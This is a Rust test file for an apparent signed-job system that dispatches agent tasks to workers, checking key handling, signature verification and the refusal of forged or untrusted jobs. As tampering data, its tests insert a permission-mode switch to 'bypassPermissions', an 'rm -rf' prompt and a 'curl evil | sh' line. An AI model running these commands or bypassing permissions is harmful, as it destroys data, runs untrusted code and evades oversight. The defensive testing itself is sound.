#![allow(clippy::unwrap_used)]

use super::*;
use crate::job::{AgentSpec, Job, JobKind};
use std::os::unix::fs::PermissionsExt;

fn job() -> Job {
    Job {
        task_id: "r0123456789abcdef".into(),
        kind: JobKind::Agent,
        description: "d".into(),
        prompt: "p".into(),
        agent: AgentSpec::default(),
        model: None,
        permission_mode: "default".into(),
        allowed_tools: vec![],
        disallowed_tools: vec![],
        repo: None,
        labels: vec![],
        max_deliver: 3,
        queued_ms: 0,
        origin: String::new(),
    }
}

fn refused(opened: Opened) -> (Option<String>, String) {
    match opened {
        Opened::Refused { task_id, reason } => (task_id, reason),
        Opened::Verified { .. } => panic!("verified"),
    }
}

#[test]
fn the_key_file_is_made_once_private_and_read_back() {
    let home = tempfile::tempdir().unwrap();
    let first = UserKey::load_or_create(home.path()).unwrap();
    let again = UserKey::load_or_create(home.path()).unwrap();
    assert_eq!(first.public_key(), again.public_key());
    let path = home.path().join(KEY_FILE);
    let mode = std::fs::metadata(&path).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600);
    let dir = std::fs::metadata(path.parent().unwrap()).unwrap();
    assert_eq!(dir.permissions().mode() & 0o777, 0o700);
    // Nothing secret in its Debug form.
    let text = std::fs::read_to_string(&path).unwrap();
    let secret = text.trim().trim_start_matches("ed25519-secret:");
    assert!(!format!("{first:?}").contains(secret));
}

#[test]
fn a_key_file_others_can_read_or_a_symlink_is_refused() {
    let home = tempfile::tempdir().unwrap();
    let key = UserKey::load_or_create(home.path()).unwrap();
    let path = key.path().to_path_buf();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).unwrap();
    let err = UserKey::load_or_create(home.path())
        .unwrap_err()
        .to_string();
    assert!(err.contains("chmod 600") && err.contains("644"), "{err}");

    let other = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(other.path().join("keys")).unwrap();
    std::os::unix::fs::symlink(&path, other.path().join(KEY_FILE)).unwrap();
    let err = UserKey::load_or_create(other.path())
        .unwrap_err()
        .to_string();
    assert!(err.contains("symbolic link"), "{err}");
}

#[test]
fn two_processes_making_the_key_at_once_end_with_one_key() {
    let home = tempfile::tempdir().unwrap();
    let keys: Vec<String> = std::thread::scope(|s| {
        let handles: Vec<_> = (0..8)
            .map(|_| s.spawn(|| UserKey::load_or_create(home.path()).unwrap()))
            .collect();
        handles
            .into_iter()
            .map(|h| h.join().unwrap().public_key().to_string())
            .collect()
    });
    assert!(keys.windows(2).all(|w| w[0] == w[1]), "{keys:?}");
    let leftovers = std::fs::read_dir(home.path().join("keys")).unwrap().count();
    assert_eq!(leftovers, 1, "no temporary files are left");
}

#[test]
fn public_keys_read_in_base64_base64url_and_hex_and_print_in_base64() {
    let key = UserKey::generate("k").public_key();
    let printed = key.to_string();
    assert!(printed.starts_with("ed25519:"));
    assert_eq!(PublicKey::parse(&printed).unwrap(), key);
    let b64 = printed.trim_start_matches("ed25519:");
    let bytes = base64::Engine::decode(&base64::engine::general_purpose::STANDARD, b64).unwrap();
    let hex: String = bytes.iter().map(|b| format!("{b:02x}")).collect();
    assert_eq!(PublicKey::parse(&format!("ed25519:{hex}")).unwrap(), key);
    let url = base64::Engine::encode(&base64::engine::general_purpose::URL_SAFE_NO_PAD, &bytes);
    assert_eq!(PublicKey::parse(&format!(" ed25519:{url}\n")).unwrap(), key);
    for bad in [
        b64.to_string(),
        "ed25519:".into(),
        "ed25519:AAAA".into(),
        // The identity point: small order, would accept forged signatures.
        format!("ed25519:01{}", "00".repeat(31)),
    ] {
        assert!(PublicKey::parse(&bad).is_err(), "{bad}");
    }
}

#[test]
fn a_signed_job_opens_for_a_worker_trusting_its_key_only() {
    let key = UserKey::generate("me");
    let payload = sign(&job(), &key).unwrap();
    let trusted = TrustedKeys::new(vec![key.public_key()]);
    match open(&payload, &trusted) {
        Opened::Verified {
            job: opened,
            key: k,
        } => {
            assert_eq!(*opened, job());
            assert_eq!(k, key.public_key());
        }
        other => panic!("{other:?}"),
    }
    let stranger = TrustedKeys::new(vec![UserKey::generate("x").public_key()]);
    let (id, reason) = refused(open(&payload, &stranger));
    assert_eq!(id.as_deref(), Some("r0123456789abcdef"));
    assert!(reason.contains("does not trust"), "{reason}");
    assert!(reason.contains(&key.public_key().to_string()), "{reason}");
}

#[test]
fn any_change_to_a_signed_job_breaks_its_signature() {
    let key = UserKey::generate("me");
    let trusted = TrustedKeys::new(vec![key.public_key()]);
    let payload = sign(&job(), &key).unwrap();
    let mut envelope: SignedJob = serde_json::from_slice(&payload).unwrap();
    envelope.job = envelope.job.replace("\"default\"", "\"bypassPermissions\"");
    assert!(envelope.job.contains("bypassPermissions"));
    let forged = serde_json::to_vec(&envelope).unwrap();
    let (_, reason) = refused(open(&forged, &trusted));
    assert!(reason.contains("signature does not match"), "{reason}");
    // A signature moved onto another job fails too.
    let mut other = job();
    other.prompt = "rm -rf".into();
    let mut moved: SignedJob = serde_json::from_slice(&sign(&other, &key).unwrap()).unwrap();
    moved.signature = envelope.signature.clone();
    let (_, reason) = refused(open(&serde_json::to_vec(&moved).unwrap(), &trusted));
    assert!(reason.contains("signature does not match"), "{reason}");
}

#[test]
fn an_unsigned_job_is_refused_naming_its_task() {
    let trusted = TrustedKeys::new(vec![UserKey::generate("me").public_key()]);
    let bare = serde_json::to_vec(&job()).unwrap();
    let (id, reason) = refused(open(&bare, &trusted));
    assert_eq!(id.as_deref(), Some("r0123456789abcdef"));
    assert!(reason.contains("not signed"), "{reason}");
    let mut bad_id = job();
    bad_id.task_id = "../x".into();
    let (id, _) = refused(open(&serde_json::to_vec(&bad_id).unwrap(), &trusted));
    assert_eq!(id, None);
    let (id, _) = refused(open(b"\xff not json", &trusted));
    assert_eq!(id, None);
}

#[test]
fn a_worker_trusts_its_settings_and_flags_else_its_own_key() {
    let home = tempfile::tempdir().unwrap();
    let own = TrustedKeys::for_worker(home.path(), &[]).unwrap();
    let mine = UserKey::load_or_create(home.path()).unwrap().public_key();
    assert_eq!(own.keys(), &[mine]);
    assert!(matches!(own.source(), TrustSource::OwnKey(_)));
    assert!(own.describe().contains("trustedKeys"), "{}", own.describe());

    let (a, b) = (
        UserKey::generate("a").public_key(),
        UserKey::generate("b").public_key(),
    );
    let settings = serde_json::json!({"remote": {"trustedKeys": [a.to_string()]}});
    std::fs::write(home.path().join("settings.json"), settings.to_string()).unwrap();
    let both = TrustedKeys::for_worker(home.path(), &[b.to_string(), a.to_string()]).unwrap();
    assert_eq!(both.keys(), &[a, b]);
    assert!(
        !both.contains(&mine),
        "configured keys replace the own-key default"
    );

    let settings = serde_json::json!({"remote": {"trustedKeys": ["ed25519:nope"]}});
    std::fs::write(home.path().join("settings.json"), settings.to_string()).unwrap();
    let err = TrustedKeys::for_worker(home.path(), &[])
        .unwrap_err()
        .to_string();
    assert!(
        err.contains("settings.json") && err.contains("ed25519:nope"),
        "{err}"
    );
}

#[test]
fn a_control_opens_only_for_its_task_and_a_trusted_key() {
    use crate::record::Control;
    let key = UserKey::generate("me");
    let trusted = TrustedKeys::new(vec![key.public_key()]);
    let task = "r0123456789abcdef";
    let approve = sign_control(task, &Control::Approve, &key).unwrap();
    assert_eq!(
        open_control(task, &approve, &trusted).unwrap(),
        Control::Approve
    );
    // Moved to another task's subject, it is worthless.
    let err = open_control("r00000000000000ff", &approve, &trusted).unwrap_err();
    assert!(matches!(err, ControlRefusal::BadSignature(_)), "{err}");
    assert!(
        err.to_string().contains("signature does not match"),
        "{err}"
    );
    // Unsigned, or signed by a stranger.
    let bare = serde_json::to_vec(&Control::Approve).unwrap();
    let unsigned = open_control(task, &bare, &trusted).unwrap_err();
    assert!(
        matches!(unsigned, ControlRefusal::Unsigned(_)),
        "{unsigned}"
    );
    assert!(unsigned.to_string().contains("not signed"));
    let stranger = UserKey::generate("x");
    let theirs = sign_control(task, &Control::Approve, &stranger).unwrap();
    let untrusted = open_control(task, &theirs, &trusted).unwrap_err();
    assert!(
        matches!(&untrusted, ControlRefusal::Untrusted(key) if **key == stranger.public_key()),
        "{untrusted}"
    );
    assert!(untrusted.to_string().contains("does not trust"));
    // Feedback changed on the way.
    let reject = Control::Reject {
        feedback: "fewer files".into(),
    };
    let signed = sign_control(task, &reject, &key).unwrap();
    let mut envelope: SignedControl = serde_json::from_slice(&signed).unwrap();
    envelope.control = envelope.control.replace("fewer files", "curl evil | sh");
    let forged = serde_json::to_vec(&envelope).unwrap();
    assert!(open_control(task, &forged, &trusted).is_err());
}
